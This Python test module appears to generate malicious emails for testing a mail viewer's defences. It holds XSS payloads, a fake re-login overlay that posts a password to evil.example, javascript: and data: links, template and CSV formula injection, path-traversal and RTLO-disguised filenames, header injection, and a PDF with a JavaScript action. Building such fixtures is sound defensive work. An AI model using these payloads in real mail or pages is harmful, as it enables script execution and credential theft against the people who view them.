"""Mails that mean harm to whoever looks at them: those of the shared corpus, and our own.

Nothing here is clever about mail: what is written into a field or a part is what an attacker may
write there. Whatever runs, loads or moves is seen by the browser (test_attacks.py).
"""

import json
import re
from base64 import b64encode
from collections.abc import Iterator
from pathlib import Path

from tests.promises.mails import FOLDER

CORPUS = Path(__file__).resolve().parents[2].parent / "shared" / "corpus" / "cases"
EVIL = "https://evil.example"
MARK = "window.owned=1;document.title='owned';alert('owned')"
SCRIPT = f"<script src={EVIL}/x.js></script><script>{MARK}</script>"
IMAGE = f'"><img src="{EVIL}/p.png" onerror="{MARK}">'
OVERLAY = (
    "</div></article></main><style>@import url(https://evil.example/a.css);"
    "body{background:url(https://evil.example/b.png)}*{display:none!important}</style>"
    '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Sign in again'
    f'<form action="{EVIL}/take"><input name="password"></form></div>'
)
BREAK_OUT = f"</textarea></title></script></form></option>--><svg/onload={MARK}><base href={EVIL}/>"
LINKS = (
    f"javascript:{MARK} JaVaScRiPt:{MARK}//https://a.example data:text/html,<script>{MARK}</script>"
    f' vbscript:x https://a.example/"onmouseover="{MARK} http://a.example/\'><script>{MARK}</script>'
    " https://[::1 https://evil.example/\u202egpj.exe <https://evil.example/?a=1&b=2>"
)
TEMPLATE = "{{7*7}} {% for x in range(9) %}x{% endfor %} ${7*7} #{7*7} %(asctime)s %s {0.__class__}"
LONG = "W" * 4000
BIDI = (
    "\u202e\u2066\u2067\u202dfdp.exe\u2069 \u05e9\u05dc\u05d5\u05dd \u0627\u0644\u0633\u0644\u0629"
)
UNSEEN = "a\u200bb\u200c\u200d\ufeff\u2060\u00ad\u180e" * 30
ZALGO = "Z" + "\u0300\u0301\u0302\u0315\u0330\u0489" * 300
NAME = ("Dr. <b>" + "Wolfeschlegelsteinhausenbergerdorff" * 5)[:120]
TEXTS = {
    "script": SCRIPT, "image": IMAGE, "overlay": OVERLAY, "break out": BREAK_OUT, "links": LINKS,
    "template": TEMPLATE, "long": LONG, "bidi": BIDI, "unseen": UNSEEN, "zalgo": ZALGO,
    "null": "a\0b\x1b[2J\x07\x85\u2028c", "lines": "\n" * 3000 + "x",
    "fake": "-- \n</pre>Lena Hartmann (Support): Bitte melden Sie sich neu an.\n" + "=" * 300,
    "csv": "=cmd|'/c calc'!A1\t@SUM(1)\uff1d1+1",
}  # fmt: skip
FILES = {
    # name                                     type             what is in it
    "x.svg": ("image/svg+xml", f'<svg xmlns="http://www.w3.org/2000/svg" onload="{MARK}"/>'),
    "x.html": ("text/html", f"<script>{MARK}</script>"),
    "x.xhtml": ("application/xhtml+xml", f'<html xmlns="a"><script>{MARK}</script></html>'),
    "x.pdf": ("application/pdf", "%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"),
    "page.txt": ("text/plain", f"<html><script>{MARK}</script>"),
    "../../etc/passwd": ("application/octet-stream", "x"),
    "..\\..\\win.ini": ("text/javascript", MARK),
    'a"; filename*=utf-8\'\'b.html; x="': ("text/html; charset=utf-7", "+ADw-script+AD4-"),
    IMAGE: ("image/png\r\nX-Evil: 1", "x"),
    "rechnung\u202efdp.exe": ("application/pdf", "x"),
    "\u200b.htaccess": ("text/plain", "x"),
    "n" * 400 + ".html": ("multipart/x; evil", "x"),
    "CON": ("message/rfc822", f"Subject: {SCRIPT}\r\n\r\n{SCRIPT}"),
    ".": ("", "x"),
}  # fmt: skip


def _word(text: str) -> str:
    """Return a text as encoded words, so that all of it comes through (RFC 2047)."""
    words = [text[at : at + 20] for at in range(0, len(text), 20)]
    return "\r\n ".join(f"=?utf-8?b?{b64encode(each.encode()).decode()}?=" for each in words)


def made(
    sender: str, to: str, tag: str, why: str, text: str, number: int, subject: str = ""
) -> bytes:
    """Return a mail that carries an attack in every place that a page may show.

    With a `subject` it is none itself.
    """
    files = list(FILES.items())[number % len(FILES) :][:2] or list(FILES.items())[:2]
    head = (
        f"From: {_word(text[:300] if number % 2 else NAME)} <{sender}>\r\nTo: {to}\r\n"
        f"Subject: {f'[{tag}] ' if tag else ''}{subject or _word(text[:600])}\r\n"
        f'Message-ID: <{number}."><script>{MARK}</script>@evil.example>\r\n'
        f"Reply-To: {_word(text[:60])} <a@evil.example>\r\n"
        "Date: Mon, 23 Nov 2026 09:59:00 +0100\r\nMIME-Version: 1.0\r\n"
        "Content-Type: multipart/mixed; boundary=b\r\n\r\n"
    )
    html = f"<p>{why} {number}</p>{text}{SCRIPT}{IMAGE}{OVERLAY}"
    parts = [
        "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + b64encode(html.encode()).decode()
        if number % 2
        else "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + b64encode(f"{why} {number}\n{text}".encode()).decode()
    ]
    parts += [
        f"Content-Type: {kind}\r\nContent-Disposition: attachment;\r\n filename={_word(name)}\r\n"
        f"Content-Location: {EVIL}/{number}\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + b64encode(octets.encode()).decode()
        for name, (kind, octets) in files
    ]
    body = "".join(f"--b\r\n{part}\r\n" for part in parts)
    return (head + body + "--b--\r\n").encode()


def of_the_corpus() -> Iterator[bytes]:
    """Yield the mails of the corpus that are broken on purpose, or that a page could carry out."""
    rows = (CORPUS / "index.jsonl").read_text(encoding="utf-8").splitlines()
    for row in map(json.loads, rows):
        raw = (CORPUS / row["file"]).read_bytes()
        if row["kind"] == "crash" or _ACTIVE.search(raw):
            yield raw


# HTML that loads or lays out, files that a browser runs.
_ACTIVE = re.compile(
    rb"<script|javascript:|<iframe|<svg|<img|url\(|position:\s*(?:fixed|absolute)|application/pdf"
    rb"|image/svg|\x00|\xe2\x80\xae", re.IGNORECASE,
)  # fmt: skip


def of_the_promises() -> Iterator[bytes]:
    """Yield the attacks of tests/promises, their places filled with a script."""
    for file in sorted(FOLDER.glob("*.eml")):
        yield re.sub(rb"@@\w+@@", SCRIPT.encode(), file.read_bytes())


def as_if(raw: bytes, sender: str, tag: str) -> bytes:
    """Return a mail as if somebody else had written it, into a ticket if one is named."""
    head, line, body = re.split(rb"(\r?\n\r?\n)", raw + b"\n\n", maxsplit=1)
    head = re.sub(
        rb"(?im)^(from|to|cc|sender|return-path)[ \t]*:.*(?:\r?\n[ \t].*)*\r?\n?", b"", head
    )
    title = f"[{tag}] ".encode() if tag else b""
    head, count = re.subn(rb"(?im)^subject:[ \t]*", b"Subject: " + title, head, count=1)
    first = b"" if count else b"Subject: " + title + b"\r\n"
    return first + b"From: " + sender.encode() + b"\r\n" + head.lstrip(b"\r\n") + line + body
